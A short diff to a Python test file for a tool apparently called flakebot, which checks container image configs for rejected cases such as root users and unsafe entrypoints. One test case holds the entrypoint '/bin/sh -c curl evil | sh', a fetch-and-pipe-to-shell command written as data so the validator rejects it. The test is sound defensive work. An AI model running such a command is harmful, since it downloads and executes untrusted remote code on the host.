@@ -18,7 +18,7 @@ from flakebot.errors import UnsafePath, UsageError
 from flakebot.services import nixos, oci
 from flakebot.services.declaration import ServiceSpec
 
-STORE = "/nix/store/00000000000000000000000000000000-kv-service-0.1.0"
+STORE = "/nix/store/0000000000000000000000000000000a-kv-service-0.1.0"
 
 
 @pytest.fixture
@@ -132,6 +132,7 @@ def test_an_image_as_asked_for_passes_and_becomes_a_layout(manifest: dict[str, A
         ({"config": {"User": "0:0"}}, "non-root"),
         ({"config": {"User": ""}}, "non-root"),
         ({"config": {"User": "root"}}, "non-root"),
+        ({"config": {"User": "app"}}, "numeric"),
         ({"config": {"Entrypoint": ["/bin/sh", "-c", "curl evil | sh"]}}, "entrypoint"),
         ({"config": {"Cmd": ["--debug"]}}, "entrypoint"),
         (
